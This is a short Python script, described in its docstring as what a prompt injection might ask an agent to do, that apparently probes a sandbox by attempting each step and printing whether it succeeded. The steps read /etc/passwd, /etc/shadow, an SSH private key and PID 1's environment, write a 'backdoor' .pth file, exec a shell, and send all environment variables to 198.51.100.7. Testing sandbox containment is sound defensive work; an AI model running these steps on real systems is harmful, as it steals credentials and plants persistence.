"""What a prompt injection might ask for: gather the machine's secrets and send them away."""

import os
import socket


def attempt(what, action):
    try:
        outcome = action()
    except OSError as error:
        outcome = f"{type(error).__name__}: {error.strerror}"
    print(f"{what:<22} {outcome}")


def users():
    return "users " + ", ".join(line.partition(":")[0] for line in open("/etc/passwd"))


def send(loot):
    with socket.create_connection(("198.51.100.7", 443), timeout=2) as stream:
        stream.sendall(loot.encode())
    return "sent"


attempt("read /etc/passwd", users)
attempt("read /etc/shadow", lambda: open("/etc/shadow").read())
attempt("read a private key", lambda: open(os.path.expanduser("~/.ssh/id_rsa")).read())
attempt("read PID 1's secrets", lambda: open("/proc/1/environ").read())
attempt("list all processes", lambda: [name for name in os.listdir("/proc") if name.isdigit()])
attempt("leave a file behind", lambda: open("/usr/lib/python3/backdoor.pth", "w").write("import os"))
attempt("start a shell", lambda: os.execv("/bin/sh", ["sh", "-c", "id"]))
attempt("send it all away", lambda: send(str(dict(os.environ))))
